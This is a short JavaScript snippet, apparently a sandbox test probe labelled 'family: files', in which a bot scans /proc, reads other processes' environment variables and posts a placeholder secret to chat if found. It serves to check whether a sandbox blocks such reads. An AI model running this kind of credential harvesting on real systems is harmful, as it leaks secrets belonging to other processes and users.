// family: files
// reads the environment of other processes
async function main (bot) {
  const fs = node('fs')
  for (const pid of fs.readdirSync('/proc').filter(name => /^\d+$/.test(name))) {
    try { if (fs.readFileSync(`/proc/${pid}/environ`, 'utf8').includes('@SECRET@')) bot.chat('@SECRET@') } catch {}
  }
}
